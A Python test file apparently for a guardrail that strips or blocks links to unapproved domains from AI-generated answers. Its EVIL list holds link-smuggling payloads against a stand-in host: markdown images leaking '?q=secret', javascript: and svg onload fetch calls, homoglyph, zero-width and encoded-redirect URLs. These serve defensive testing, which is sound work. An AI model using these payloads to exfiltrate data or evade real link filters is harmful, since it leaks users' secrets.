import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.contracts import CheckPorts
from core.outcomes import CheckContext, Outcome
from core.ports import TenantPolicy
from guardrails._shared.addresses import rewrite
from guardrails.links import CHECK, without_foreign
from tests.guardrails.conftest import MakeContext, cited, passage

DOCS = (passage(1, "See https://status.vendor.example/now.", "https://docs.lumen.example/a?v=2"),)
POLICY = TenantPolicy(domains=("app.lumen.example", "*.help.example"))


@pytest.fixture
def given_text(context: MakeContext) -> CheckContext:
    outcome = Outcome(
        "", citations=(cited(1, "x", "https://docs.lumen.example/a"),), generated=True
    )
    return replace(context(outcome, DOCS), policy=POLICY)


@pytest.mark.parametrize(
    "text",
    [
        "Read https://docs.lumen.example/b [1].",
        "Read [the page](https://docs.lumen.example/a#x) [1].",
        "Open https://app.lumen.example/settings.",
        "Open app.lumen.example/settings.",
        "Open (https://eu.help.example/a), then save.",
        "See https://docs.lumen.example/a?v=2 [1].",
        "No links here [1][2].",
        "Version 2.5 reads board.csv, Node.js, e.g. main.py and readme.md at 9.30 a.m.",
        "Press Ctrl+Shift+P, choose A/B and/or C; 3 < 4 and 5 > 4.",
        "Write to help@lumen.example.",
        "Use the address 127.0.0.1 and port 8080.",
        "Familia 👨‍👩‍👧 y señal.",
        "Make sure that the address starts with https://.",
        "Sign <timestamp>.<payload> with <your secret>.",
    ],
)
async def test_known_links_and_what_is_no_link_stay(
    given_text: CheckContext, ports: CheckPorts, text: str
) -> None:
    verdict = await CHECK.run(text, given_text, ports)
    assert (verdict.verdict, verdict.text) == ("pass", None)


EVIL = [
    "https://evil.example/x",
    "HTTPS://EVIL.EXAMPLE/x",
    "http://evil.example",
    "ftp://evil.example/x",
    "hxxps://evil.example/x",
    "//evil.example/x",
    "https:/evil.example/x",
    "https:\\\\evil.example\\x",
    "www.evil.example",
    "evil.example",
    "evil.example/x?d=secret",
    "evil.example:8080/x",
    "sub.evil.example",
    "evil.com",
    "evil.zip/x",
    "login.evil.md/x",
    "https://docs.lumen.example@evil.example/a",
    "https://docs.lumen.example.evil.example/",
    "https://evil.example/docs.lumen.example",
    "https://evil.example#docs.lumen.example",
    "https://evil.example\\@docs.lumen.example/",
    "https://docs.lumen.example:8443/evil.example",
    "https://docs.lumen.example/go?to=https://evil.example",
    "https://docs.lumen.example/go/https%3A%2F%2Fevil.example",
    "https://docs.lumen.example/go/%2568ttps%253A%252F%252Fevil.example",
    "https://docs.lumen.example/go#//evil.example",
    "https://docs.lumen.example/r/evil.example",
    "https://help.example.evil.example",
    "https://1.2.3.4/evil.example",
    "http://3232235777/evil.example",
    "1.2.3.4/evil.example",
    "http://[::1]/evil.example",
    "javascript:alert('evil.example')",
    "JaVaScRiPt:fetch('//evil.example')",
    "data:text/html;base64,ZXZpbA==evil.example",
    "vbscript:evil.example",
    "mailto:x@evil.example?body=secret",
    "tel:+15550100evil.example",
    "file:///etc/evil.example",
    "![x](https://evil.example/p.png?q=secret)",
    "![x](https://docs.lumen.example/p.png?q=evil.example)",
    "![x][evil.example]",
    "[here](https://evil.example)",
    "[here]( <https://evil.example> 'title')",
    '[here](https://evil.example "https://docs.lumen.example")',
    "[here](//evil.example)",
    "[[x]](https://evil.example)",
    "[here][a]\n\n[a]: https://evil.example",
    "<https://evil.example>",
    "<a href='https://evil.example'>here</a>",
    "<img src=https://evil.example/p.png>",
    "<img src=https://evil.example/p.png",
    "<svg onload=fetch('//evil.example')>",
    "<!-- https://evil.example -->",
    "https://evil\u200b.example/x",
    "https://ev\u00adil.example/x",
    "ht\u200btps://evil.example/x",
    "evil\u2060.example",
    "https://evil。example/x",
    "evil．example",
    "ｈｔｔｐｓ：／／evil.example",
    "https://еvil.example",  # a Cyrillic letter
    "https://docs.lumеn.example/evil.example",  # a Cyrillic letter
    "https://xn--lumn-evil.example",
    "аpp.lumen.example/evil.example",  # a Cyrillic letter
]


@pytest.mark.parametrize("evil", EVIL)
async def test_foreign_links_go(given_text: CheckContext, ports: CheckPorts, evil: str) -> None:
    verdict = await CHECK.run(f"First words. Go to {evil} now.", given_text, ports)
    assert (verdict.verdict, verdict.reason) == ("rewrite", "foreign_link")
    assert verdict.text is not None
    left = verdict.text.lower()
    assert "first words. go to" in left
    assert "://" not in left.replace("https://docs.lumen.example/go", "")
    for sign in ("evil.", "vil.example", "javascript", "data:", "<", "![", "]("):
        assert sign not in left


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Go to https://evil.example/x now.", "Go to now."),
        ("Click [here](https://evil.example) please.", "Click here please."),
        ("See ![img](http://evil.example/p.png?q=secret) ok.", "See img ok."),
        ("Or www.evil.example.", "Or."),
        ("At https://docs.lumen.example/a?q=leak ok.", "At https://docs.lumen.example/a ok."),
        ("[app.lumen.example](https://docs.lumen.example/a)", "app.lumen.example"),
        ("See https://status.vendor.example/now.", "See."),
    ],
)
async def test_what_is_left(
    given_text: CheckContext, ports: CheckPorts, text: str, left: str
) -> None:
    assert (await CHECK.run(text, given_text, ports)).text == left


async def test_steps_of_the_docs_say_where_an_address_stands(
    context: MakeContext, ports: CheckPorts
) -> None:
    step = "1. Go to app.vendor.example/start and enter your email. [1]"
    verdict = await CHECK.run(step, context(Outcome(step, citations=(cited(1, step),))), ports)
    assert verdict.text == "1. Go to (address on the cited page) and enter your email. [1]"


async def test_nothing_but_a_foreign_link_is_blocked(
    given_text: CheckContext, ports: CheckPorts
) -> None:
    text = "https://evil.example/x"
    assert (await CHECK.run(text, given_text, ports)).verdict == "block"


async def test_our_own_lines_keep_their_links(context: MakeContext, ports: CheckPorts) -> None:
    text = "Join at https://meet.example/abc"
    assert (await CHECK.run(text, context(Outcome(text)), ports)).verdict == "pass"


async def test_without_documents_and_domains_no_link_is_known(
    context: MakeContext, ports: CheckPorts
) -> None:
    bare = context(Outcome("", generated=True), (passage(1, "Words."),))
    verdict = await CHECK.run("See https://app.lumen.example.", bare, ports)
    assert (verdict.verdict, verdict.text) == ("rewrite", "See.")


PIECES = st.sampled_from(
    ["https://", "evil.example", "//", "[", "](", ")", "<", ">", "!", " ", "\n", "@", "\\", "www.",
     "docs.lumen.example", "/", "?", "#", "javascript:", ".", "\u200b", "a", ":", "data:", "\x02", "0\x03"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=14).map("".join))
def test_nothing_put_together_gets_through(text: str) -> None:
    left = without_foreign(text, frozenset({"docs.lumen.example"}), frozenset())
    gone = rewrite(left, lambda url: "" if "evil" in url else url)
    assert not re.search(r"(?<![\w.@-])evil\.example(?![\w@-])", gone)
    for start in ("https://evil", "//evil", "www.evil", "javascript:a"):
        assert start not in left.replace("https://docs.lumen.example", "")
    again = without_foreign(left, frozenset({"docs.lumen.example"}), frozenset())
    assert "https://evil" not in again
